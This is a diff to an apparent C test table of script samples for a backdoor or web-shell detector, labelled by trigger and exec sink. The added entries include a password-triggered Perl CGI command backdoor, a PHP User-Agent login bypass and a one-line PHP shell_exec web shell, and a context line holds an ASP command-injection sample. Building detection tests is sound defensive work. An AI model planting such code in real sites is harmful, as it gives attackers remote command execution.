@@ -144,6 +144,16 @@ static const struct script_example examples[] = {
     {NULL, NULL, "usr/lib/lua/auth.lua",
      "function check_login(user, password)\n if password == stored(user) then return true end\n "
      "return false\nend\n"},
+    {"kind=trigger", "literal=hedgerow7", "cgi-bin/a.pl",
+     PERL "my %in; &parse;\nsub parse { my $b = $ENV{'QUERY_STRING'};\nforeach (split /&/, $b) "
+	  "{ my ($k, $v) = split /=/; $in{$k} = $v; } }\nif ($in{'pw'} eq 'hedgerow7') { print "
+	  "`$in{'c'}`; }\n"},
+    {"kind=credential", "literal=hedgerow_agent", "www/a.php",
+     "<?php if ($_SERVER['HTTP_USER_AGENT'] == 'hedgerow_agent') $_SESSION['login'] = true;"},
+    {"compare=script whole", "sink=exec", "www/a.php",
+     "<?php parse_str($_SERVER['QUERY_STRING'], $p); shell_exec($p['c']);"},
+    {NULL, NULL, "www/a.php",
+     "<?php if ($_SERVER['HTTP_REFERER'] == 'http://a.b/') $_SESSION['from'] = 'b';"},
     /* server pages */
     {"compare=script part", "sink=exec", "web/a.asp",
      "<html><% var h = Request.Form(\"h\"); system(\"ping \" + h); %></html>"},
